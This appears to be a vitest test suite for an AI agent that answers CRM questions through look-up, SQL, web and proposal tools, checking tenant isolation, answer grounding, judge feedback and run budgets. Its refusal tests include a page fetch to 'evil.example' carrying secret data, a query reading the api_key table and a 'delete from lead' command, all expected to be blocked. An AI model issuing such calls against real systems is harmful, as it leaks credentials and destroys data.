import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { unavailable } from '../../src/errors.ts'
import { type AskWorld, call, openAskWorld } from './ask-world.ts'

let world: AskWorld
beforeAll(async () => {
  world = await openAskWorld()
})
afterAll(() => world.close())
beforeEach(() => world.script.reset())

const lastFeedback = () => {
  const messages = world.script.chats.at(-1)!.messages
  return messages.findLast(({ role }) => role === 'user')!.content
}

describe('a question about the CRM', () => {
  it('is answered with ids, and the look-ups and queries behind it are kept', async () => {
    const { northwind } = world.ids
    world.script.turns = [
      [call('lookup_organization', { search_query: 'nortwind enrgy' })],
      [
        call('execute_crm_query', {
          query: `select status, count(*) as n from Lead where organization_id = ${northwind} group by status order by n desc`,
          reasoning: 'Leads of Northwind by status',
        }),
      ],
      `Northwind Energy (Organization ${northwind}) has 2 leads that are Interviewing and 1 that is New.`,
    ]
    const { run, events } = await world.ask('How do the leads of Northwind stand?')
    expect(run).toMatchObject({
      use_case: 'ask',
      status: 'succeeded',
      answer: `Northwind Energy (Organization ${northwind}) has 2 leads that are Interviewing and 1 that is New.`,
      proposal_count: 0,
      usage: { model_calls: 4, input_tokens: 400, output_tokens: 40, cost_usd: 0.004 },
    })
    expect(run.result).toEqual({
      checked: true,
      lookups: [{ tool: 'lookup_organization', search_query: 'nortwind enrgy', ids: [northwind] }],
      queries: [
        { sql: expect.stringContaining('group by status'), reasoning: 'Leads of Northwind by status', rows: 2 },
      ],
    })
    expect(world.script.results()[0]).toContain(`"id":${northwind},"matched_by":"name","name":"Northwind Energy"`)
    expect(world.script.results()[1]).toContain('"rows":[{"status":"Interviewing","n":2},{"status":"New","n":1}]')
    const called = events.filter(({ kind }) => kind === 'tool_call').map(({ detail }) => detail.tool)
    expect(called).toEqual(['lookup_organization', 'execute_crm_query'])
    const spent = events.filter(({ kind }) => kind === 'model_call')
    expect(spent).toHaveLength(4)
    expect(spent[0]).toMatchObject({ input_tokens: 100, cost_usd: 0.001, detail: { purpose: 'answer' } })
  })

  it('is read with the schema, the day and the tools, and its own words stay apart from the instructions', async () => {
    world.script.turns = [[call('lookup_deal', { search_query: 'anything' })], 'No deal was found.']
    await world.ask('Which deals are there?')
    const [{ messages, tools }] = world.script.chats as [(typeof world.script.chats)[0]]
    expect(messages[0]).toMatchObject({
      role: 'system',
      content: expect.stringContaining('organization_id>organization'),
    })
    expect(messages[0]!.content).toContain(`Today is ${new Date().toISOString().slice(0, 10)}`)
    expect(messages[1]).toEqual({ role: 'user', content: 'Which deals are there?' })
    expect(tools!.map(({ name }) => name)).toEqual([
      'lookup_account',
      'lookup_organization',
      'lookup_individual',
      'lookup_contact',
      'lookup_deal',
      'lookup_lead',
      'execute_crm_query',
      'web_search',
      'wikipedia',
      'fetch_page',
      'propose_create',
      'propose_update',
      'propose_task',
      'propose_merge',
    ])
  })

  it('keeps the schema and the tenant in its state from the start', async () => {
    world.script.turns = [[call('lookup_deal', { search_query: 'x' })], 'No deal was found.']
    const { run } = await world.ask('Which deals are there?')
    const rows = await world.query(
      "select channel, convert_from(blob, 'UTF8') as value from checkpoint_blobs where thread_id = $1 and channel in ('schema_context', 'tenant_id') order by channel",
      [run.id],
    )
    expect(rows).toEqual([
      { channel: 'schema_context', value: expect.stringContaining('organization_id>organization') },
      { channel: 'tenant_id', value: String(world.tenantId) },
    ])
  })

  it('never reads another tenant, by look-up or by query', async () => {
    world.script.turns = [
      [
        call('lookup_organization', { search_query: 'Northwind Secret Holdings' }),
        call('lookup_organization', { search_query: String(world.ids.foreign) }),
        call('execute_crm_query', { query: 'select name from organization', reasoning: 'all names' }),
      ],
      'Done.',
    ]
    await world.ask('Which organizations are there?')
    expect(world.script.results()).toHaveLength(3)
    expect(world.script.results().join()).not.toContain('Secret')
    expect(world.script.results()[2]).toContain('Alpha Systems')
  })

  it('may give an id as a number and leave empty what it does not need', async () => {
    world.script.turns = [
      [
        call('lookup_organization', { search_query: world.ids.northwind }),
        call('lookup_lead', { search_query: '', lead_type: '', status: '' }),
      ],
      'Northwind Energy has leads.',
    ]
    await world.ask('What of Northwind?')
    expect(world.script.results()[0]).toContain(`"id":${world.ids.northwind},"matched_by":"id"`)
    expect(world.script.results()[1]).toContain('Data Engineer C')
  })

  it('narrows leads by type and status through their look-up', async () => {
    world.script.turns = [
      [call('lookup_lead', { search_query: 'northwind', lead_type: 'Job', status: 'interview' })],
      'Two leads.',
    ]
    await world.ask('Which job leads at Northwind are interviewing?')
    const [result] = world.script.results()
    expect(result).toContain('Data Engineer A')
    expect(result).toContain('Data Engineer B')
    expect(result).not.toContain('Data Engineer C')
  })

  it('may have many tool calls in one turn, each answered under its own id', async () => {
    world.script.turns = [
      [
        { ...call('lookup_organization', { search_query: 'alpha' }), id: 'same' },
        { ...call('lookup_individual', { search_query: 'lindqvist' }), id: 'same' },
        { ...call('lookup_deal', { search_query: 'x' }), id: '' },
      ],
      [{ ...call('lookup_contact', { search_query: 'lindqvist' }), id: 'same' }],
      'Ada Lindqvist is Head of Data.',
    ]
    const { run } = await world.ask('Who is Lindqvist?')
    expect(run).toMatchObject({ status: 'succeeded', answer: 'Ada Lindqvist is Head of Data.' })
    const asked = world.script.chats
      .at(-1)!
      .messages.flatMap((m) => (m.role === 'assistant' ? (m.toolCalls ?? []) : []))
    const answered = world.script.chats.at(-1)!.messages.flatMap((m) => (m.role === 'tool' ? [m.toolCallId] : []))
    expect(answered).toEqual(asked.map(({ id }) => id))
    expect(new Set(answered).size).toBe(4)
  })
})

describe('a call that is wrong', () => {
  it('comes back with what was refused and why, and the model corrects itself', async () => {
    world.script.turns = [
      [call('execute_crm_query', { query: 'select * from api_key', reasoning: 'keys' })],
      [call('execute_crm_query', { query: 'delete from lead', reasoning: 'clean up' })],
      [call('execute_crm_query', { query: 'select nmae from organization', reasoning: 'names' })],
      (messages) => {
        const said = messages.at(-1)!.content
        expect(said).toMatch(/nmae.*organization\.name/)
        return [call('execute_crm_query', { query: 'select count(*) as n from organization', reasoning: 'how many' })]
      },
      'There are 3 organizations.',
    ]
    const { run, events } = await world.ask('How many organizations are there?')
    expect(run).toMatchObject({ status: 'succeeded', answer: 'There are 3 organizations.' })
    const [keys, deletion] = world.script.results()
    expect(keys).toMatch(/^Refused: .*api_key is not one of Account, Organization/)
    expect(keys!.match(/api_key is not one of/g)).toHaveLength(1)
    expect(deletion).toMatch(/^Refused: .*DELETE/)
    expect(run.result).toMatchObject({ queries: [{ sql: 'select count(*) as n from organization', rows: 1 }] })
    expect(events.filter(({ kind }) => kind === 'tool_refused').map(({ message }) => message)).toEqual([
      expect.stringContaining('api_key'),
      expect.stringContaining('DELETE'),
      expect.stringContaining('nmae'),
    ])
  })

  it.each([
    ['an unknown tool', call('delete_organization', { id: 1 }), /no tool "delete_organization".*lookup_account/],
    ['arguments that are no JSON', { name: 'lookup_lead', args: undefined }, /not a valid JSON object/],
    ['arguments of the wrong type', call('lookup_organization', { search_query: ['alpha'] }), /search_query: /],
    ['arguments left out', call('execute_crm_query', { query: 'select 1' }), /reasoning: /],
    [
      'a value that is none of a few',
      call('lookup_lead', { search_query: 'x', lead_type: 'Wish' }),
      /lead_type: .*Partnership/,
    ],
    [
      'a propose tool with a field there is not',
      call('propose_update', { entity_type: 'Lead', entity_id: 1, values: { colour: 'red' }, rationale: 'r' }),
      /values\.colour: There is no such field/,
    ],
    [
      'values that are no object',
      call('propose_update', { entity_type: 'Lead', entity_id: 1, values: 'red', rationale: 'r' }),
      /values: This must be a JSON object/,
    ],
    [
      'a record there is not',
      call('propose_update', { entity_type: 'Organization', entity_id: 999999, values: { name: 'X' }, rationale: 'r' }),
      /There is no Organization 999999; look it up first/,
    ],
    [
      'an address nobody has named',
      call('fetch_page', { url: 'https://evil.example/?d=secret' }),
      /Only addresses that/,
    ],
  ])('is answered and ends nothing: %s', async (_, wrong, message) => {
    world.script.turns = [[wrong], [call('lookup_organization', { search_query: 'alpha' })], 'Alpha Systems is there.']
    const { run } = await world.ask('Is Alpha there?')
    expect(world.script.results()[0]).toMatch(message)
    expect(run).toMatchObject({ status: 'succeeded', answer: 'Alpha Systems is there.', proposal_count: 0 })
  })

  it("of another tenant's record is told like one of no record", async () => {
    const foreign = {
      entity_type: 'Organization',
      entity_id: world.ids.foreign,
      values: { name: 'Mine' },
      rationale: 'r',
    }
    world.script.turns = [[call('propose_update', foreign)], [call('lookup_deal', { search_query: 'x' })], 'No.']
    const { run } = await world.ask('Rename it')
    expect(world.script.results()[0]).toContain(`There is no Organization ${world.ids.foreign}`)
    expect(run.proposal_count).toBe(0)
  })

  it('leaves the run alive where a source is out, and the answer may say so (T45)', async () => {
    const out = { search: async () => Promise.reject(unavailable('The web search is busy right now.')) }
    const web = world.work.web
    world.work.web = { ...web, ...out } as typeof web
    world.script.turns = [
      [call('web_search', { query: 'Northwind news' })],
      [call('lookup_organization', { search_query: 'northwind' })],
      'Northwind Energy is in Oslo. The web could not be searched.',
    ]
    const { run, events } = await world.ask('What is new at Northwind?')
    world.work.web = web
    expect(world.script.results()[0]).toMatch(/^Not read: The web search is busy/)
    expect(run.status).toBe('succeeded')
    expect(events.map(({ kind }) => kind)).toContain('search_failed')
  })

  it('is tried again by the next delivery where the database was out', async () => {
    let failed = false
    world.script.turns = [
      () => {
        if (!failed) world.database.failNext(1)
        failed = true
        return [call('lookup_organization', { search_query: 'alpha' })]
      },
      'Alpha Systems is there.',
    ]
    world.work.patience = { retrySeconds: () => 1 }
    const { run } = await world.ask('Is Alpha there?')
    expect(run).toMatchObject({ status: 'succeeded', answer: 'Alpha Systems is there.' })
  })
})

describe('an answer', () => {
  it('that says what no tool has said is sent back with what is wrong, and ends when it is right', async () => {
    world.script.turns = [
      [call('lookup_organization', { search_query: 'northwind' })],
      'Northwind Energy has 5,000 people and is led by Marcus Aurelius, see https://elsewhere.example/x.',
      'Northwind Energy has 340 people.',
    ]
    const { run, events } = await world.ask('How large is Northwind?')
    expect(lastFeedback()).toMatch(/Not in any tool result: https:\/\/elsewhere\.example\/x, 5,000, Marcus Aurelius/)
    expect(run).toMatchObject({ answer: 'Northwind Energy has 340 people.', result: { checked: true } })
    expect(events.filter(({ kind }) => kind === 'sent_back')).toHaveLength(1)
  })

  it('that stays wrong is never given, nor is what it proposed', async () => {
    const update = {
      entity_type: 'Organization',
      entity_id: world.ids.northwind,
      values: { city: 'Oslo' },
      rationale: 'r',
    }
    world.script.turns = [
      [call('lookup_organization', { search_query: 'northwind' }), call('propose_update', update)],
      'It has 5,001 people.',
      'It has 5,002 people.',
      'It has 5,003 people.',
      'It has 340 people.',
    ]
    const { run } = await world.ask('How large is Northwind? Note its city.')
    expect(run).toMatchObject({
      status: 'succeeded',
      answer: 'No answer could be given that the records bear out.',
      result: { checked: false },
      proposal_count: 0,
    })
    expect(world.script.chats).toHaveLength(4)
  })

  it('that nothing bears out is not believed', async () => {
    world.script.turns = ['Everything is fine.', [call('lookup_deal', { search_query: 'x' })], 'No deal was found.']
    const { run } = await world.ask('How are my deals?')
    expect(world.script.chats[1]!.messages.at(-1)!.content).toContain('No tool was used')
    expect(run.answer).toBe('No deal was found.')
  })

  it('that leaves out what was asked is sent back by the judge', async () => {
    world.script.turns = [
      [call('lookup_organization', { search_query: 'northwind' })],
      'Northwind Energy is in Oslo.',
      'Northwind Energy is in Oslo and has 340 people.',
    ]
    world.script.verdicts = [{ grounded: false, problems: ['It does not say how many people there are.'] }]
    const { run } = await world.ask('Where is Northwind, and how large?')
    expect(lastFeedback()).toContain('It does not say how many people there are.')
    expect(run.answer).toBe('Northwind Energy is in Oslo and has 340 people.')
    const judged = world.script.asks.find(({ purpose }) => purpose === 'check answer')!.messages[1]!.content
    expect(judged).toContain('Question: Where is Northwind, and how large?')
    expect(judged).toContain('Answer: Northwind Energy is in Oslo.')
    expect(judged).toContain('"employee_count":340')
  })

  it('is not let through by a judge that fails', async () => {
    const update = {
      entity_type: 'Organization',
      entity_id: world.ids.alpha,
      values: { city: 'Berlin' },
      rationale: 'r',
    }
    world.work.patience = { retrySeconds: () => 1, maxAttempts: 2 }
    world.script.turns = [
      [call('lookup_organization', { search_query: 'alpha' }), call('propose_update', update)],
      'Alpha Systems is in Berlin.',
    ]
    world.script.verdicts = Array.from({ length: 20 }, () => unavailable('The model could not be reached.'))
    const { run } = await world.ask('Where is Alpha? Set its city.')
    world.work.patience = {}
    expect(run).toMatchObject({ status: 'failed', answer: null, proposal_count: 0 })
  })

  it('is asked for at the last turn, whatever the model would rather do', async () => {
    world.script.turns = Array.from({ length: 60 }, () => [call('lookup_deal', { search_query: 'x' })])
    const { run } = await world.ask('Which deals are there?')
    expect(run.status).toBe('succeeded')
    expect(run.answer).toBe('No answer could be given that the records bear out.')
    expect(world.script.chats.length).toBeLessThan(25)
    expect(world.script.chats[11]!.messages.at(-1)!.content).toContain('This is your last turn')
  })
})

describe('a budget', () => {
  it('ends a question with a sentence, files nothing unchecked, and lets it go on where it was (T46)', async () => {
    const { resumeRun } = await import('../../src/runs/resume-run.ts')
    const task = {
      title: 'Call Ada',
      description: null,
      due_date: '2027-01-04',
      entity_type: 'Individual',
      entity_id: world.ids.ada,
      rationale: 'It was asked for.',
    }
    world.script.turns = [
      [call('lookup_individual', { search_query: 'lindqvist' })],
      [call('propose_task', task)],
      'A task to call Ada Lindqvist is proposed.',
    ]
    const { run } = await world.ask('Create a task to call Ada Lindqvist', { budget: { model_calls: 2 } })
    expect(run).toMatchObject({
      status: 'succeeded',
      status_reason: "Stopped at the run's budget of 2 model calls.",
      answer:
        "The question could not be answered within the budget. One proposal was noted and not filed. Stopped at the run's budget of 2 model calls.",
      proposal_count: 0,
      usage: { model_calls: 2 },
    })
    await resumeRun(world.context(), run.id, { budget: { model_calls: 3 } })
    const judgeless = await world.settled(run.id)
    expect(judgeless).toMatchObject({ proposal_count: 0, usage: { model_calls: 3 } })
    await resumeRun(world.context(), run.id, { budget: { model_calls: 10 } })
    const done = await world.settled(run.id)
    expect(done).toMatchObject({
      status: 'succeeded',
      status_reason: null,
      answer: 'A task to call Ada Lindqvist is proposed.',
      proposal_count: 1,
      usage: { model_calls: 4 },
    })
    expect(world.script.chats).toHaveLength(3)
  })

  it('of searches stops a tool, and the turn is carried out as a whole afterwards', async () => {
    const { resumeRun } = await import('../../src/runs/resume-run.ts')
    world.script.turns = [
      [
        call('lookup_organization', { search_query: 'alpha' }),
        call('web_search', { query: 'Alpha' }),
        call('web_search', { query: 'Beta' }),
      ],
      'Alpha Systems was found.',
    ]
    const { run } = await world.ask('What does the web say of Alpha?', { budget: { searches: 1 } })
    expect(run).toMatchObject({ status_reason: "Stopped at the run's budget of 1 searches.", usage: { searches: 1 } })
    await resumeRun(world.context(), run.id, { budget: { searches: 10 } })
    expect(await world.settled(run.id)).toMatchObject({ status_reason: null, answer: 'Alpha Systems was found.' })
    const asked = world.script.chats.at(-1)!.messages
    expect(asked.filter(({ role }) => role === 'tool')).toHaveLength(3)
  })
})
